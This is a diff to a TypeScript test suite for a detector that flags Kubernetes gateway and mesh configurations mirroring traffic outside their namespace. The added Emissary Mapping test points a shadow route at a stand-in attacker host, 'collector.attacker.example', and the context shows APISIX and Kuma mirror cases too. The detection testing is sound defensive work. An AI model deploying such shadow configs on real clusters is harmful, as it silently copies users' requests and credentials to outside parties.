@@ -163,6 +163,17 @@ describe('traffic_mirrored: mesh and gateway routes', () => {
     expect(codes(write(GR, { apiVersion: 'apisix.apache.org/v2', kind: 'ApisixGlobalRule', metadata: { name: 'g', namespace: 'shop' }, spec: { plugins: [plugin('http://collector.attacker.example')] } }))).toEqual(MIRRORED);
   });
 
+  it("finds an Emissary Mapping's shadow to a host outside the Mapping's namespace", () => {
+    const M = '/apis/getambassador.io/v3alpha1/namespaces/shop/mappings';
+    const m = (service: string, shadow = true) => ({ apiVersion: 'getambassador.io/v3alpha1', kind: 'Mapping', metadata: { name: 'm', namespace: 'shop' }, spec: { hostname: '*', prefix: '/', service, shadow } });
+    expect(codes(write(M, m('https://collector.attacker.example')))).toEqual(MIRRORED);
+    expect(codes(write(M, m('collector.shop:443')))).toEqual(MIRRORED);
+    expect(codes(write(M, m('sink.lab.svc.cluster.local')))).toEqual(MIRRORED);
+    expect(codes(write(`${M}/m`, { spec: { shadow: true } }, MERGE, 'PATCH'))).toEqual(MIRRORED);
+    expect(codes(write(M, m('shop-v2:8080')))).toEqual([]);
+    expect(codes(write(M, m('http://shop-v2.shop.svc.cluster.local')))).toEqual([]);
+  });
+
   it("finds Kuma's MeshHTTPRoute RequestMirror outside the route's namespace", () => {
     const MR = '/apis/kuma.io/v1alpha1/namespaces/shop/meshhttproutes';
     const mr = (backendRef: object) => ({ apiVersion: 'kuma.io/v1alpha1', kind: 'MeshHTTPRoute', metadata: { name: 'shop', namespace: 'shop' }, spec: { targetRef: { kind: 'Mesh' }, to: [{ targetRef: { kind: 'MeshService', name: 'shop' }, rules: [{ matches: [{ path: { type: 'PathPrefix', value: '/' } }], default: { filters: [{ type: 'RequestMirror', requestMirror: { backendRef } }] } }] }] } });
